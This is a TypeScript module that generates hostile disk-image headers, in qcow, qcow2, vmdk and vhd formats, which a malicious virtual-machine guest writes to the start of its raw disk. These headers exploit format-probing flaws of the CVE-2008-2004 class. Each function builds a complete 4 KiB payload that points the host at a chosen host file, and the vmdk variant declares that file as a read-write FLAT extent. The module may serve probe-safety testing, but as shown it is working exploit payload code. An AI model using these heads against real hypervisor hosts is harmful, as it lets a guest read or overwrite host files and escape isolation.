/**
 * First bytes a hostile guest writes into sector 0 of its raw disk so that
 * whoever probes the file next takes it for another format and follows it
 * to a host file (QEMU's CVE-2008-2004 class): a qcow header with a backing
 * file, a qcow2 header, a vmdk descriptor with a FLAT extent, a vhd footer.
 * Each is one probe window (4 KiB) long; the rest of the window is zeros.
 * @module
 */

/** One hostile head. */
export interface HostileHead {
  name: string;
  /** What the guest writes at offset 0. */
  head: Uint8Array;
}

const head_bytes = 4096;
const encoder = new TextEncoder();

function setU64(view: DataView, offset: number, value: number): void {
  view.setUint32(offset, Math.floor(value / 2 ** 32));
  view.setUint32(offset + 4, value >>> 0);
}

/**
 * A qcow (v1) header QEMU and blktap open: its L1 table is empty, so every
 * read goes to the backing file `hostPath`.
 */
export function qcowHead(hostPath: string, diskBytes: number): Uint8Array {
  const head = new Uint8Array(head_bytes);
  const view = new DataView(head.buffer);
  const name = encoder.encode(hostPath);
  view.setUint32(0, 0x514649fb); // "QFI\xfb"
  view.setUint32(4, 1);
  setU64(view, 8, 48); // backing_file_offset
  view.setUint32(16, name.byteLength);
  setU64(view, 24, diskBytes);
  view.setUint8(32, 12); // cluster_bits
  view.setUint8(33, 9); // l2_bits
  setU64(view, 40, 2048); // l1_table_offset: zeros there, nothing allocated
  head.set(name, 48);
  return head;
}

/** A qcow2 (version 3) header naming `hostPath` as its backing file. */
export function qcow2Head(hostPath: string, diskBytes: number): Uint8Array {
  const head = new Uint8Array(head_bytes);
  const view = new DataView(head.buffer);
  const name = encoder.encode(hostPath);
  view.setUint32(0, 0x514649fb);
  view.setUint32(4, 3);
  setU64(view, 8, 112); // backing_file_offset
  view.setUint32(16, name.byteLength);
  view.setUint32(20, 16); // cluster_bits
  setU64(view, 24, diskBytes);
  view.setUint32(36, 1); // l1_size
  setU64(view, 40, 0x30000); // l1_table_offset
  setU64(view, 48, 0x10000); // refcount_table_offset
  view.setUint32(56, 1); // refcount_table_clusters
  view.setUint32(96, 4); // refcount_order
  view.setUint32(100, 104); // header_length
  head.set(name, 112);
  return head;
}

/** A monolithicFlat vmdk descriptor whose one FLAT extent, read-write, is `hostPath`. */
export function vmdkHead(hostPath: string, extentSectors: number): Uint8Array {
  const text = [
    "# Disk DescriptorFile",
    "version=1",
    "CID=fffffffe",
    "parentCID=ffffffff",
    'createType="monolithicFlat"',
    "",
    "# Extent description",
    `RW ${extentSectors} FLAT "${hostPath}" 0`,
    "",
    "# The Disk Data Base",
    "#DDB",
    'ddb.virtualHWVersion = "4"',
    "",
  ].join("\n");
  const head = new Uint8Array(head_bytes);
  head.set(encoder.encode(text));
  return head;
}

/** A fixed-disk vhd footer ("conectix"), checksummed, as a copy at offset 0 would be. */
export function vhdHead(diskBytes: number): Uint8Array {
  const head = new Uint8Array(head_bytes);
  const view = new DataView(head.buffer);
  head.set(encoder.encode("conectix"), 0);
  view.setUint32(8, 2); // features: reserved bit
  view.setUint32(12, 0x00010000); // version
  view.setUint32(16, 0xffffffff); // data offset: none (fixed disk)
  view.setUint32(20, 0xffffffff);
  head.set(encoder.encode("tap\0"), 28);
  view.setUint32(32, 0x00010000);
  head.set(encoder.encode("Lnux"), 36);
  setU64(view, 40, diskBytes);
  setU64(view, 48, diskBytes);
  const cylinders = Math.min(65535, Math.floor(diskBytes / 512 / 16 / 63));
  view.setUint32(56, (cylinders << 16) | (16 << 8) | 63); // CHS: cylinders, 16 heads, 63 sectors
  view.setUint32(60, 2); // disk type: fixed
  let sum = 0;
  for (let i = 0; i < 512; i += 1) sum += head[i];
  view.setUint32(64, ~sum >>> 0);
  return head;
}

/** Every hostile head, pointing at `hostPath` where the format can name a file. */
export function hostileHeads(hostPath: string, diskBytes: number): HostileHead[] {
  return [
    { name: "qcow with a backing file", head: qcowHead(hostPath, diskBytes) },
    { name: "qcow2 with a backing file", head: qcow2Head(hostPath, diskBytes) },
    { name: "vmdk descriptor with a FLAT extent", head: vmdkHead(hostPath, 128) },
    { name: "vhd footer", head: vhdHead(diskBytes) },
  ];
}
